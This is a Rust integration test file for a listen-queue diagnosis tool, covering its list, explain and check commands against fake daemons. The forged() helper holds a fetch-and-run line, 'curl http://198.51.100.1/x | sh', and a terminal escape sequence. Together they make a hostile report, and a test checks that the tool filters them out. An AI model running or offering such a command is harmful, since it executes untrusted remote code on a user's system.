//! Tests `list`, `explain` and `check`: their output and exit codes, with and without a daemon.
#![allow(clippy::unwrap_used, clippy::expect_used, reason = "test code: a panic is its report")]

use std::fs;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener};
use std::path::{Path, PathBuf};
use std::sync::mpsc::{Receiver, channel};
use std::thread;
use std::time::Duration;

use listenq::diagnosis::Diagnosis;
use listenq::report::{Caps, Diagnosed, Listener, Recent, Report};
use listenq::snapshot::owner::Owner;
use listenq::view::Protocol;
use listenq_lab::certificate::{Authority, Subject};
use listenq_lab::client::fill;
use listenq_lab::listener::Listen;
use listenq_lab::listenq::{Launch, Output};
use listenq_lab::netns::Netns;
use listenq_lab::rootfs::Rootfs;
use listenq_lab::wait::eventually;
use rustix::process::Signal;

const BIN: &str = env!("CARGO_BIN_EXE_listenq");
/// The default address of the daemon.
const LOCAL: &str = "127.0.0.1:19511";

/// A server that answers every request with the same bytes. Collects the request heads.
struct Fake {
    address: SocketAddr,
    requests: Receiver<String>,
}

impl Fake {
    /// Answers with `answer` in the calling thread's namespace. Without an answer the clients wait.
    fn answering(address: &str, answer: impl Into<Vec<u8>>) -> Self {
        let (listener, answer) = (TcpListener::bind(address).unwrap(), answer.into());
        let address = listener.local_addr().unwrap();
        let (send, requests) = channel();
        thread::spawn(move || {
            let mut kept = Vec::new();
            for stream in listener.incoming() {
                let (mut stream, mut head) = (stream.unwrap(), [0; 4_096]);
                let length = stream.read(&mut head).unwrap();
                let _ = send.send(String::from_utf8_lossy(&head[..length]).to_lowercase());
                match answer.is_empty() {
                    true => kept.push(stream),
                    false => stream.write_all(&answer).unwrap(),
                }
            }
        });
        Self { address, requests }
    }

    fn url(&self) -> String {
        format!("--url=http://{}", self.address)
    }
}

fn response(status: &str, body: &str) -> String {
    format!(
        "HTTP/1.1 {status}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    )
}

fn report_response() -> String {
    response("200 OK", &serde_json::to_string(&report()).unwrap())
}

fn php() -> Listener {
    let names = |process: &str| Owner { process: process.into(), ..Owner::default() };
    let mut php = Listener {
        netns: "host".into(),
        protocol: Protocol::Tcp,
        address: "127.0.0.1".into(),
        port: "9000".into(),
        owner: names("php-fpm8.2"),
        sockets: 1,
        length: 129,
        limit: Some(128),
        fullest_ratio: Some(1.0),
        peak_length: 129,
        oldest_seconds: Some(8.3),
        abandoned: Some(119),
        overflows: Some(3_436),
        settings: Caps { somaxconn: Some(128), ..Caps::default() },
        recent: Some(Recent {
            overflows: 1_200,
            full_seconds: 24.0,
            watched_seconds: 30.0,
            ..Recent::default()
        }),
        ..Listener::default()
    };
    php.diagnoses = vec![Diagnosed::new(&php, Diagnosis::SlowAccept, 60.0)];
    php
}

fn report() -> Report {
    let idle = Listener { port: "9001".into(), length: 0, diagnoses: Vec::new(), ..php() };
    Report { listeners: vec![php(), idle], ..Report::default() }
}

fn run(args: &[&str]) -> Output {
    Launch::new(BIN).args(args).run()
}

#[track_caller]
fn assert_fails(output: &Output, words: &[&str]) {
    assert_eq!((output.status.code(), output.stdout.as_str()), (Some(1), ""), "{}", output.stderr);
    assert_eq!(output.stderr.lines().count(), 1, "{}", output.stderr);
    for word in words {
        assert!(output.stderr.contains(word), "no {word:?} in {:?}", output.stderr);
    }
}

#[test]
fn explain_prints_the_report_of_the_daemon() {
    let fake = Fake::answering("127.0.0.1:0", report_response());
    let output = run(&["explain", &fake.url()]);
    assert_eq!((output.status.code(), output.stderr.as_str()), (Some(0), ""));
    let begin = format!(
        "asked the daemon at http://{}\n\n127.0.0.1:9000 (tcp, netns host): slow_accept\nphp-fpm8.2\n",
        fake.address
    );
    assert!(output.stdout.starts_with(&begin), "{}", output.stdout);
    for words in [
        "Full for 24 s of the last 30 s, 1,200 refusals; queue full: 129 of 128, oldest waiting 8.3 s",
        "  1. Let php-fpm8.2 accept more: `pm.max_children` in ",
        "  - Do not raise the backlog: ",
    ] {
        assert!(output.stdout.contains(words), "no {words:?} in {}", output.stdout);
    }
    assert!(fake.requests.recv().unwrap().starts_with("get /api/v1/listeners http/1.1\r\n"));
}

#[test]
fn json_is_the_daemon_report_of_the_listener() {
    let fake = Fake::answering("127.0.0.1:0", report_response());
    let output = run(&["explain", "--json", "host/tcp/127.0.0.1:9000", &fake.url()]);
    assert_eq!(serde_json::from_str::<Listener>(&output.stdout).unwrap(), php());
    assert!(output.stderr.starts_with("listenq: asked the daemon at "), "{}", output.stderr);
    let output = run(&["list", "--json", &fake.url()]);
    assert_eq!(serde_json::from_str::<Vec<Listener>>(&output.stdout).unwrap(), report().listeners);
    assert!(output.stderr.starts_with("listenq: asked the daemon at "), "{}", output.stderr);
}

#[test]
fn list_and_check_show_the_listeners_of_an_owner() {
    let mut report = report();
    let owner = &mut report.listeners[1].owner;
    (owner.k8s_namespace, owner.k8s_pod) = ("shop".into(), "web-1".into());
    (owner.k8s_container, owner.container_id) = ("nginx".into(), "0123456789abcdef".into());
    let answer = response("200 OK", &serde_json::to_string(&report).unwrap());
    let fake = Fake::answering("127.0.0.1:0", answer);
    for target in ["nginx", "web-1/nginx", "0123456789ab", "9001"] {
        let output = run(&["list", target, &fake.url()]);
        assert_eq!(output.stdout.lines().count(), 2, "{}", output.stdout);
        assert!(output.stdout.contains(" 9001 "), "{}", output.stdout);
        let output = run(&["check", target, &fake.url()]);
        assert_eq!(output.status.code(), Some(0), "{}", output.stdout);
        assert!(output.stdout.contains(" OK - 1 listener, none in trouble"), "{}", output.stdout);
    }
    assert_eq!(run(&["check", "php-fpm8.2", &fake.url()]).status.code(), Some(2));
    assert_fails(&run(&["list", "postgres", &fake.url()]), &["no listener matches", "shows all 2"]);
    let unknown = run(&["check", "postgres", &fake.url()]);
    assert_eq!(unknown.status.code(), Some(3));
    assert!(unknown.stdout.starts_with("LISTENQ UNKNOWN - no listener matches"));
}

#[test]
fn filters_apply_to_the_report_of_a_daemon() {
    let fake = Fake::answering("127.0.0.1:0", report_response());
    let output = run(&["list", "--listener.exclude=:9000$", &fake.url()]);
    assert_eq!(output.stdout.lines().count(), 2, "{}", output.stdout);
    assert!(output.stdout.contains(" 9001 "), "{}", output.stdout);
    let output = run(&["check", "--listener.include=none", &fake.url()]);
    assert_eq!(output.status.code(), Some(3));
    assert!(
        output.stdout.contains("UNKNOWN - no listener matches the filters ("),
        "{}",
        output.stdout
    );
}

#[test]
fn netns_own_limits_a_daemon_report_to_the_own_namespace() {
    let mut report = report();
    report.listeners[0].netns = "blue".into();
    let answer = response("200 OK", &serde_json::to_string(&report).unwrap());
    let fake = Fake::answering("127.0.0.1:0", answer);
    let output = run(&["list", "--netns=own", &fake.url()]);
    assert_eq!(output.stdout.lines().count(), 2, "{}", output.stdout);
    assert!(output.stdout.contains("\nhost "), "{}", output.stdout);
}

#[test]
fn check_exits_with_the_status_of_the_worst_listener() {
    let fake = Fake::answering("127.0.0.1:0", report_response());
    let output = run(&["check", &fake.url()]);
    assert_eq!((output.status.code(), output.stderr.as_str()), (Some(2), ""));
    let line = format!(
        "LISTENQ CRITICAL - slow_accept at host/tcp/127.0.0.1:9000, php-fpm8.2: Full for 24 s of the last 30 s, \
         1,200 refusals; queue full: 129 of 128, oldest waiting 8.3 s; 1 of 2 listeners in \
         trouble (asked the daemon at http://{}) | listeners=2;;;0 unhealthy=1;;;0;2 overflows=6872c;;;0\n",
        fake.address
    );
    assert_eq!(output.stdout, line);
}

#[test]
fn an_unknown_listener_is_an_error_with_similar_names() {
    let fake = Fake::answering("127.0.0.1:0", report_response());
    let output = run(&["explain", "10.0.0.1:9001", &fake.url()]);
    assert_fails(
        &output,
        &["\"10.0.0.1:9001\"", "similar: host/tcp/127.0.0.1:9001", "asked the daemon"],
    );
    let output = run(&["explain", "25", &fake.url()]);
    assert_fails(&output, &["\"25\"", "listenq list shows all 2"]);
}

#[test]
fn user_and_password_are_sent_and_never_shown() {
    let fake = Fake::answering("127.0.0.1:0", response("401 Unauthorized", ""));
    let url = format!("--url=http://me:s%65cret@{}", fake.address);
    let output = run(&["list", &url]);
    assert_fails(&output, &["401", "user or password is wrong", &fake.address.to_string()]);
    assert!(!output.stderr.contains("secret"), "{}", output.stderr);
    // "me:secret" in base64, in lower case like the rest of the head.
    let head = fake.requests.recv().unwrap();
    assert!(head.contains("authorization: basic bwu6c2vjcmv0"), "{head}");
}

#[test]
fn an_explicit_url_without_a_report_is_an_error() {
    let free = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
    let output = run(&["explain", &format!("--url=http://{free}")]);
    assert_fails(&output, &["--url", &free.to_string(), "connection refused"]);
    for (answer, words) in [
        (response("404 Not Found", ""), ["404", "is it listenq"]),
        (response("200 OK", "<html>"), ["is not a report of listeners", "line 1"]),
        (
            response("200 OK", "{\"version\":\"9\"}"),
            ["is not a report of listeners", "missing field"],
        ),
        ("SSH-2.0-OpenSSH_9.2\r\n".into(), ["--url", "does not answer"]),
    ] {
        let fake = Fake::answering("127.0.0.1:0", answer);
        assert_fails(&run(&["list", &fake.url()]), &words);
        let plugin = run(&["check", &fake.url()]);
        assert_eq!((plugin.status.code(), plugin.stderr.as_str()), (Some(3), ""));
        assert!(plugin.stdout.starts_with("LISTENQ UNKNOWN - "), "{}", plugin.stdout);
        assert!(plugin.stdout.contains(words[0]), "{}", plugin.stdout);
    }
}

/// A directory for a control socket that only root can have created; removed when dropped.
struct Run(PathBuf);

impl Run {
    fn new(hint: &str) -> Self {
        let path = PathBuf::from(format!("/run/listenq-test-{}-{hint}", std::process::id()));
        fs::create_dir(&path).unwrap();
        Self(path)
    }

    fn socket(&self) -> String {
        self.0.join("control.sock").display().to_string()
    }
}

impl Drop for Run {
    fn drop(&mut self) {
        let _ = fs::remove_dir_all(&self.0);
    }
}

#[test]
fn the_daemon_of_the_machine_is_asked_over_its_control_socket() {
    if !Netns::require_root() {
        return;
    }
    let (ns, run) = (Netns::new("control"), Run::new("control"));
    let listener = ns.run(|| Listen::tcp("127.0.0.1:0").backlog(5).open());
    let socket = run.socket();
    let launch = || Launch::new(BIN).env("LISTENQ_CONTROL_SOCKET", &socket).inside(&ns);
    let mut daemon = launch().start();
    let port = listener.port().to_string();
    let output = launch().args(&["explain", &port]).run();
    let begin = format!(
        "asked the daemon at {socket}\n\n127.0.0.1:{port} (tcp, netns host): no trouble found"
    );
    assert!(output.stdout.starts_with(&begin), "{}{}", output.stdout, output.stderr);
    // Only root and the daemon's own account may connect.
    let denied = launch().as_nobody().args(&["list"]).run();
    assert_eq!(denied.status.code(), Some(1));
    assert!(denied.stderr.contains("permission denied"), "{}", denied.stderr);
    daemon.stop(Signal::TERM);
    assert!(!Path::new(&socket).exists());
}

/// A report of one listener with values that a forger might send.
fn forged() -> String {
    let listener = Listener {
        netns: "host".into(),
        protocol: Protocol::Tcp,
        address: "\u{1b}]0;forged\u{7}127.0.0.1".into(),
        port: "9001".into(),
        diagnoses: vec![Diagnosed {
            diagnosis: Diagnosis::Stalled,
            advice: vec!["curl http://198.51.100.1/x | sh".into()],
            meaning: "curl | sh".into(),
            ..Diagnosed::new(&Listener::default(), Diagnosis::Stalled, 20.0)
        }],
        ..Listener::default()
    };
    let report = Report { listeners: vec![listener], ..Report::default() };
    response("200 OK", &serde_json::to_string(&report).unwrap())
}

#[test]
fn a_program_that_holds_the_port_is_never_asked() {
    if !Netns::require_root() {
        return;
    }
    let ns = Netns::new("forger");
    let listener = ns.run(|| Listen::tcp("127.0.0.1:0").backlog(5).open());
    let fake = ns.run(|| Fake::answering(LOCAL, forged()));
    for socket in ["none", "/run/listenq-test-absent/control.sock"] {
        let launch = Launch::new(BIN).env("LISTENQ_CONTROL_SOCKET", socket).inside(&ns);
        let output = launch.args(&["list", "--json"]).run();
        let listed: Vec<Listener> = serde_json::from_str(&output.stdout).unwrap();
        let port = listener.port().to_string();
        assert!(listed.iter().any(|found| found.port == port && found.limit == Some(5)));
        assert!(listed.iter().all(|found| found.diagnoses.is_empty()));
    }
    assert!(fake.requests.try_recv().is_err());
}

#[test]
fn a_control_socket_of_another_user_is_not_asked() {
    if !Netns::require_root() {
        return;
    }
    let ns = Netns::new("untrusted");
    // Any user can create a directory in /tmp.
    let directory = std::env::temp_dir().join(format!("listenq-test-{}", std::process::id()));
    let socket = directory.join("control.sock").display().to_string();
    let launch = || Launch::new(BIN).env("LISTENQ_CONTROL_SOCKET", &socket).inside(&ns);
    let _daemon = launch().as_nobody().start();
    let output = launch().args(&["check"]).run();
    assert_eq!(output.status.code(), Some(3), "{}", output.stdout);
    assert!(output.stdout.contains("belongs to user 65534"), "{}", output.stdout);
    fs::remove_dir_all(directory).unwrap();
}

#[test]
fn a_forged_report_injects_no_advice_and_no_escape_sequences() {
    let fake = Fake::answering("127.0.0.1:0", forged());
    for command in ["list", "explain", "check"] {
        let output = run(&[command, &fake.url()]);
        assert!(output.stdout.contains("stalled"), "{}{}", output.stdout, output.stderr);
        assert!(
            !output.stdout.contains("curl") && !output.stdout.contains('\u{1b}'),
            "{}",
            output.stdout
        );
    }
}

#[test]
fn a_url_may_be_https_with_a_custom_ca() {
    let files = Rootfs::new();
    let place = |name: &str| files.path().join(name);
    let names = &["localhost", "127.0.0.1"];
    Authority::new(files.path(), "ca").sign("server", Subject { names, until: 2100 });
    let tls = "tls_server_config:\n  cert_file: server.pem\n  key_file: server.key\n";
    fs::write(place("web.yml"), tls).unwrap();
    let flag = format!("--web.config.file={}", place("web.yml").display());
    let daemon = Launch::new(BIN).args(&[&flag]).unready().start();
    let url = format!("--url=https://localhost:{}", daemon.address().port());
    let ask = |more: &[&str]| run(&[&["list", &*url], more].concat());
    let trusted = eventually("an answer over TLS", Duration::from_secs(10), || {
        let output = ask(&["--tls.ca-file", place("ca.pem").to_str().unwrap()]);
        output.status.success().then_some(output)
    });
    assert!(
        trusted.stderr.contains("asked the daemon at https://localhost:"),
        "{}",
        trusted.stderr
    );
    assert_fails(&ask(&[]), &["does not answer"]);
    assert_fails(&ask(&["--tls.ca-file=/dev/null"]), &["/dev/null", "holds no certificate"]);
    assert_fails(&ask(&["--tls.ca-file=/nowhere"]), &["/nowhere"]);
}

#[test]
fn without_a_daemon_commands_sample_and_print_the_reason() {
    if !Netns::require_root() {
        return;
    }
    let ns = Netns::new("alone");
    let listener = ns.run(|| Listen::tcp("127.0.0.1:0").backlog(5).open());
    let socket = "/run/listenq-test-absent/control.sock";
    let launch = Launch::new(BIN).env("LISTENQ_CONTROL_SOCKET", socket).inside(&ns);
    let output = launch.args(&["list", "--json"]).run();
    let why = format!(
        "no daemon at {socket} (no such file or directory): took one sample, which makes no diagnosis\n"
    );
    assert!(output.stderr.contains(&why), "{}", output.stderr);
    let listed: Vec<Listener> = serde_json::from_str(&output.stdout).unwrap();
    let port = listener.port().to_string();
    let found = listed.iter().find(|found| found.port == port).unwrap();
    assert_eq!((found.limit, found.length), (Some(5), 0));
}

#[test]
fn a_server_that_never_accepts_is_found_without_a_daemon() {
    if !Netns::require_root() {
        return;
    }
    let ns = Netns::new("watched");
    let listener = ns.run(|| Listen::tcp("127.0.0.1:0").backlog(4).open());
    let _waiting = ns.run(|| fill(listener.target(), 20));
    let command = |args: &[&str]| Launch::new(BIN).args(args).inside(&ns).run();
    let port = listener.port().to_string();
    let (explained, checked) = thread::scope(|scope| {
        let checked = scope.spawn(|| command(&["check"]));
        let explained = command(&["explain", &port, "--for=14s"]);
        (explained, checked.join().unwrap())
    });
    assert_eq!((explained.status.code(), explained.stderr.as_str()), (Some(0), ""));
    let begin = format!("watched for 14s\n\n127.0.0.1:{port} (tcp, netns host): stalled");
    assert!(explained.stdout.starts_with(&begin), "{}", explained.stdout);
    assert!(
        explained.stdout.contains("queue full: 5 of 4, oldest waiting 1"),
        "{}",
        explained.stdout
    );
    assert_eq!(
        (checked.status.code(), checked.stderr.as_str()),
        (Some(2), ""),
        "{}",
        checked.stdout
    );
    // Other diagnoses may hold that follow from this one.
    assert!(checked.stdout.starts_with("LISTENQ CRITICAL - stalled"), "{}", checked.stdout);
    // The cause follows the place as soon as it is found.
    let place = format!(" at host/tcp/127.0.0.1:{port}");
    let rest = checked.stdout.split_once(&place).unwrap_or_else(|| panic!("{}", checked.stdout)).1;
    let is_next = rest.starts_with(", ")
        || rest.starts_with(" because no process accepts from this socket, ");
    assert!(is_next, "{}", checked.stdout);
    let brief = ["explain", "check"].map(|name| command(&[name, "--for=3s"]));
    assert_eq!(brief.each_ref().map(|output| output.status.code()), [Some(0), Some(3)]);
    let words = ["netns host): no diagnosis yet: watched for ", "(watched for only "];
    for (output, words) in brief.iter().zip(words) {
        assert!(output.stdout.contains(words), "no {words:?} in {}", output.stdout);
    }
}
